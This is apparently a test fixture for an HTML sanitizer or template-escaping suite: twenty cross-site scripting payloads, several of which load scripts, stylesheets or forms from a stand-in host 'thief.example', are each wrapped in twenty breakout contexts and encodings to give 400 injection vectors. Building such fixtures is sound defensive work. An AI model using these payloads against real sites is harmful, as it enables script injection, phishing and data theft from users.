"""Four hundred ways to run a script in a page: twenty payloads that act, in twenty dresses that try to get them out of a text."""

from __future__ import annotations

#: What runs, or fetches, if any of it becomes part of the page. `hit` is watched, and so is every request to elsewhere.
PAYLOADS: tuple[str, ...] = (
    "<script>window.hit=1</script>",
    "<script src=//thief.example/a.js></script>",
    "<img src=x onerror=window.hit=1>",
    "<img src=//thief.example/pixel.gif>",
    "<svg onload=window.hit=1>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src=javascript:parent.hit=1></iframe>",
    "<a href=javascript:window.hit=1 autofocus>pay here</a>",
    "<form action=//thief.example/><button autofocus>Approve</button></form>",
    "<input autofocus onfocus=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<meta http-equiv=refresh content='0;url=//thief.example/'>",
    "<link rel=stylesheet href=//thief.example/a.css>",
    "<style>@import '//thief.example/b.css';body{display:none}</style>",
    "<object data=//thief.example/o.html type=text/html></object>",
    "<div hx-get=/decided hx-trigger=load hx-target=body hx-on:load='window.hit=1'>x</div>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=window.hit=1></annotation-xml></math>",
    "<base href=//thief.example/><p onpointerenter=window.hit=1 style='position:fixed;inset:0'>x</p>",
)


def _entities(text: str) -> str:
    return "".join(f"&#{ord(letter)};" for letter in text)


def _percent(text: str) -> str:
    return text.replace("<", "%3C").replace(">", "%3E").replace("'", "%27")


def dressed(payload: str) -> tuple[str, ...]:
    """Dress one payload: out of text, attributes, comments, templates, scripts; encoded once and twice; cut by strange signs."""
    return (
        payload,
        f'">{payload}',
        f"'>{payload}",
        f"--><!-- -->{payload}<!--",
        f"</title>{payload}",
        f"</textarea>{payload}",
        f"</script>{payload}",
        f"</style></noscript></template>{payload}",
        f"]]>{payload}<![CDATA[",
        f"{{{{ {payload!r}|safe }}}}{{% raw %}}{payload}{{% endraw %}}",
        f"${{{payload}}}#{{{payload}}}`{payload}`",
        _entities(payload),
        payload.replace("<", "&lt;").replace(">", "&gt;"),
        _percent(payload),
        payload.replace("<", "\\u003c").replace(">", "\\x3e"),
        payload.replace("<", "＜").replace(">", "＞"),
        payload.swapcase().replace("WINDOW.HIT", "window.hit").replace("PARENT.HIT", "parent.hit"),
        payload.replace(" ", "\t").replace("=", "\u200b="),
        f"\u202e{payload}\u202c",
        f"x' onmouseover='window.hit=1' y=\"{payload}\" {payload}",
    )


VECTORS: tuple[str, ...] = tuple(vector for payload in PAYLOADS for vector in dressed(payload))
